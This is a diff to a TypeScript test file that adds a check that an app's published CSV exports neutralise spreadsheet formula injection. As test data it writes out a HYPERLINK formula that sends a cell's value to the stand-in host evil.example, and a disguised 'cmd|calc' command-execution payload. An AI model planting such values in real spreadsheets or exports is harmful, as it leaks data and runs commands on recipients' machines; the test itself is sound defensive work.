@@ -3,7 +3,7 @@ import { and, eq } from 'drizzle-orm';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { SYSTEM_ACTORS } from '../../src/lib/server/audit';
 import type { DB } from '../../src/lib/server/db';
-import { assessments, periods, publishedFiles } from '../../src/lib/server/db/schema';
+import { assessments, periodOpds, periods, publishedFiles } from '../../src/lib/server/db/schema';
 import {
 	publishedFile,
 	publishedMethod,
@@ -144,6 +144,32 @@ describe('published files', () => {
 			name: 'Kecamatan Kasemen Kota Serang',
 			marks: '0010000000011'
 		});
+	});
+
+	it('neutralises a formula after a line break or blanks in results.csv and matrix.csv', async () => {
+		const [period] = await db.select().from(periods).where(eq(periods.year, 2021));
+		const evil = 'Dinas X\n=HYPERLINK("http://evil.example/?x="&A1,"klik")';
+		const [first] = await db.select().from(periodOpds).where(eq(periodOpds.periodId, period!.id));
+		await db
+			.update(periodOpds)
+			.set({ displayName: evil })
+			.where(and(eq(periodOpds.periodId, period!.id), eq(periodOpds.opdId, first!.opdId)));
+		const [second] = await db
+			.select()
+			.from(periodOpds)
+			.where(and(eq(periodOpds.periodId, period!.id), eq(periodOpds.displayNumber, 2)));
+		await db
+			.update(periodOpds)
+			.set({ displayName: ' \uff1dcmd|calc' })
+			.where(and(eq(periodOpds.periodId, period!.id), eq(periodOpds.opdId, second!.opdId)));
+		await publish(period!.id, SYSTEM_ACTORS.cli, db);
+		for (const name of ['results.csv', 'matrix.csv'] as const) {
+			const body = (await publishedFile(2021, name, db))!.body;
+			expect(body, name).toContain("\n'=HYPERLINK");
+			expect(body, name).toContain("' \uff1dcmd|calc");
+			// No line of the file, and no cell, starts (after blanks) with a formula trigger.
+			expect(body, name).not.toMatch(/(^|[\r\n,])"?[^\S\r\n]*[=+\-@\uff1d\uff0b\uff0d\uff20]/);
+		}
 	});
 
 	it('keeps what was published when cells change later, until the year is published again', async () => {
